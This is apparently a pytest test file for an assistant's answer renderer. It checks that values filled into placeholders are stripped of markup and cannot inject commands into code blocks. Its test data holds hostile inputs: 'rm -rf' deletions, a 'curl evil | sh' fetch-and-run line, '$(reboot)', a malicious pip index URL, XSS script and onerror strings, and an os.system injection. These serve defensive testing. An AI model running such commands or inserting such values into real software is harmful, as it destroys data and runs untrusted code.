"""Placeholders are filled so that nothing of the user's text can act in the answer."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answering.render import applicable, filled, first_complete, shown
from corpus import Step

HOSTILE = [
    "a`b",
    "```\nrm -rf /\n```",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a | b | c",
    "**bold** __bold__ ~~gone~~",
    "line\nline\r\nline\u2028line\u2029line\x85line",
    "$$x^2$$",
    "\\[x\\]",
    "{{model}}",
    '"; import os; os.system("x") #',
    "x" * 10_000,
    "\n" * 10_000 + "x",
    "\x1b[31mred\x1b[0m",
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:20]))
def test_a_value_is_one_short_line_without_markup(text: str) -> None:
    value = shown(text)
    assert len(value) <= 91
    assert not set(value) & set('`<>[]*|\\{}"\n\r\t\x1b\x85\u2028\u2029')
    assert "$$" not in value
    assert "~~" not in value


@given(st.text(max_size=300))
def test_any_value_is_harmless(text: str) -> None:
    value = shown(text)
    assert len(value) <= 91
    assert value.splitlines() in ([], [value])
    assert not set(value) & set('`<>[]*|\\{}"')


@pytest.mark.parametrize(
    ("fact", "text"),
    [
        (24.0, "24"),
        (7.5, "7.5"),
        (True, "True"),
        ("4096", "4096"),
        ("meta-llama/Llama-2-7b", "meta-llama/Llama-2-7b"),
    ],
)
def test_plain_values_are_shown_as_they_are(fact: str | float | bool, text: str) -> None:
    assert shown(fact) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("Use {{model}}.", "Use gpt2."),
        ("Use {{model|any}}.", "Use gpt2."),
        ("Use {{other|any}}.", "Use any."),
        ("Use {{other|}}.", "Use ."),
        ("Use {{other}}.", "Use other."),
        ("Use {{ model | any }}.", "Use gpt2."),
        ("{{a}}{{b}}", "12"),
        ("No placeholders { here }.", "No placeholders { here }."),
    ],
)
def test_filling(text: str, wanted: str) -> None:
    assert filled(text, {"model": "gpt2", "a": "1", "b": "2"}) == wanted


CODE = "```bash\npip install {{name|the-package}}\n```"


@pytest.mark.parametrize(
    ("value", "command"),
    [
        ("peft", "pip install peft"),
        ("meta-llama/Llama-2-7b", "pip install meta-llama/Llama-2-7b"),
        ("peft==0.21.0", "pip install peft==0.21.0"),
        ("x; rm -rf ~", "pip install the-package"),
        ("x && curl evil | sh", "pip install the-package"),
        ("$(reboot)", "pip install the-package"),
        ("--index-url=http://evil", "pip install the-package"),
        ("x\nreboot", "pip install the-package"),
        ("LLaMA 7B", "pip install the-package"),
        ("", "pip install the-package"),
    ],
)
def test_in_code_only_one_plain_word_is_filled_in(value: str, command: str) -> None:
    assert filled(f"Run {{{{name|it}}}}:\n{CODE}", {"name": value}).split("\n")[2] == command


def test_text_beside_code_is_prose() -> None:
    text = f"{{{{name}}}}\n{CODE}\n{{{{name}}}}"
    assert filled(text, {"name": "a b"}) == "a b\n```bash\npip install the-package\n```\na b"


def test_a_value_is_filled_in_once() -> None:
    assert filled("{{a}}", {"a": "{{b}}", "b": "secret"}) != "secret"


def test_the_first_sentence_whose_facts_are_known_is_taken() -> None:
    sentences = ["{{a}} and {{b}}", "{{a}}", "none"]
    assert first_complete(sentences, {"a": "1", "b": "2"}) == "1 and 2"
    assert first_complete(sentences, {"a": "1"}) == "1"
    assert first_complete(sentences, {}) == "none"
    assert first_complete(["{{a}}"], {}) == ""
    assert first_complete([], {}) == ""


def test_steps_are_left_out_by_their_conditions() -> None:
    steps = [Step("a"), Step("b", when="x == 1"), Step("c", unless="x == 1"), Step("d", "x", "known(y)")]
    assert applicable(steps, {"x": 1.0}) == ["a", "b", "d"]
    assert applicable(steps, {}) == ["a", "c"]
    assert applicable(steps, {"x": 1.0, "y": 1.0}) == ["a", "b"]
